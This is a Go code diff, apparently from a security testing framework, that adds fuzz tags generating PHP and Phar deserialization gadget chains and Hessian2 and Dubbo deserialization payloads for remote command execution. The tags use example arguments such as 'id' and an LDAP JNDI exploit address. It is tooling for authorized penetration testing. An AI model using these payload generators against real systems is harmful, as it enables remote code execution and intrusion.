@@ -29,7 +29,10 @@ import (
 	"github.com/yaklang/yaklang/common/utils/dateparse"
 	"github.com/yaklang/yaklang/common/utils/regen"
 	"github.com/yaklang/yaklang/common/yak/yaklib/codec"
+	"github.com/yaklang/yaklang/common/yserx/dubbo"
+	"github.com/yaklang/yaklang/common/yserx/hessian"
 	"github.com/yaklang/yaklang/common/yso"
+	"github.com/yaklang/yaklang/common/yso/php"
 
 	"github.com/yaklang/yaklang/common/fuzztag"
 	"github.com/yaklang/yaklang/common/log"
@@ -1905,6 +1908,119 @@ func init() {
 		TagNameVerbose:      "爆破body回显链",
 		ArgumentDescription: "{{string(whoami:命令)}}",
 	})
+	phpGadgetHandler := func(s string, phar bool) []*fuzztag.FuzzExecResult {
+		var result []*fuzztag.FuzzExecResult
+		pushNewResult := func(d []byte, verbose []string) {
+			result = append(result, fuzztag.NewFuzzExecResult(d, verbose))
+		}
+		// 参数中可能包含 |，只拆分前两个
+		params := strings.SplitN(s, "|", 3)
+		var gadgets []*php.GadgetInfo
+		if strings.EqualFold(params[0], "all") {
+			for _, g := range php.GetAllGadgets() {
+				if g.Type == php.GadgetRCE {
+					gadgets = append(gadgets, g)
+				}
+			}
+		} else {
+			for _, g := range php.GetAllGadgets() {
+				if strings.EqualFold(g.Name, params[0]) {
+					gadgets = append(gadgets, g)
+				}
+			}
+		}
+		for _, g := range gadgets {
+			obj, err := php.GenerateGadget(g.Name, params[1:]...)
+			if err != nil {
+				continue
+			}
+			if !phar {
+				pushNewResult(obj.Marshal(), append([]string{g.Name}, params[1:]...))
+				continue
+			}
+			pharBytes, err := php.GeneratePhar(obj)
+			if err != nil {
+				continue
+			}
+			pushNewResult(pharBytes, append([]string{g.Name, "phar"}, params[1:]...))
+		}
+		if len(result) > 0 {
+			return result
+		}
+		return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+	}
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName: "yso:php",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			return phpGadgetHandler(s, false)
+		},
+		Description:         "生成 PHP 反序列化利用链，利用链为 all 时生成所有命令执行利用链，只填写一个参数时作为命令使用 system 执行",
+		TagNameVerbose:      "PHP 反序列化利用链",
+		ArgumentDescription: "{{string_split(Laravel/RCE1:利用链)}}{{string_split(system:函数)}}{{string(id:参数)}}",
+	})
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName: "yso:phar",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			return phpGadgetHandler(s, true)
+		},
+		Description:         "生成 metadata 为 PHP 反序列化利用链的 phar 文件，通过 phar:// 读取文件时触发",
+		TagNameVerbose:      "PHP phar 反序列化",
+		ArgumentDescription: "{{string_split(Laravel/RCE1:利用链)}}{{string_split(system:函数)}}{{string(id:参数)}}",
+	})
+	hessianGadgetHandler := func(s string, dubboPacket bool) []*fuzztag.FuzzExecResult {
+		var result []*fuzztag.FuzzExecResult
+		params := strings.Split(s, "|")
+		var servicePath, method string
+		if dubboPacket {
+			// yso:dubbo 的前两个参数为目标服务路径与方法名
+			if len(params) < 3 {
+				return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+			}
+			servicePath, method, params = params[0], params[1], params[2:]
+		}
+		for _, g := range hessian.GetAllGadgets() {
+			if !strings.EqualFold(params[0], "all") && !strings.EqualFold(g.Name, params[0]) {
+				continue
+			}
+			args := params[1:]
+			if len(args) > len(g.Args) {
+				args = args[:len(g.Args)]
+			}
+			var raw []byte
+			var err error
+			if dubboPacket {
+				raw, err = dubbo.GenerateGadgetRequest(servicePath, method, g.Name, args...)
+			} else {
+				raw, err = hessian.GenerateGadgetBytes(g.Name, args...)
+			}
+			if err != nil {
+				continue
+			}
+			result = append(result, fuzztag.NewFuzzExecResult(raw, append([]string{g.Name}, args...)))
+		}
+		if len(result) > 0 {
+			return result
+		}
+		return []*fuzztag.FuzzExecResult{fuzztag.NewFuzzExecResult([]byte(s), []string{s})}
+	}
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName: "yso:hessian",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			return hessianGadgetHandler(s, false)
+		},
+		Description:         "生成 Hessian2 反序列化利用链，利用链为 all 时生成所有利用链，Rome 与 SpringAbstractBeanFactoryPointcutAdvisor 的参数为 JNDI 地址，Resin 的参数为远程 codebase 与类名",
+		TagNameVerbose:      "Hessian 反序列化利用链",
+		ArgumentDescription: "{{string_split(Rome:利用链)}}{{string_split(ldap://127.0.0.1:1389/Exploit:参数)}}{{string(Exploit:类名)}}",
+	})
+	AddFuzzTagToGlobal(&FuzzTagDescription{
+		TagName: "yso:dubbo",
+		HandlerEx: func(s string) []*fuzztag.FuzzExecResult {
+			return hessianGadgetHandler(s, true)
+		},
+		Description:         "生成参数为 Hessian2 反序列化利用链的 Dubbo 请求数据包，服务端解码参数时触发，前两个参数为服务路径与方法名，其余参数与 yso:hessian 相同",
+		TagNameVerbose:      "Dubbo Hessian 反序列化",
+		ArgumentDescription: "{{string_split(org.apache.dubbo.demo.DemoService:服务路径)}}{{string_split(sayHello:方法名)}}{{string_split(Rome:利用链)}}{{string_split(ldap://127.0.0.1:1389/Exploit:参数)}}{{string(Exploit:类名)}}",
+	})
 	AddFuzzTagToGlobal(&FuzzTagDescription{
 		TagName: "headerauth",
 		Handler: func(s string) []string {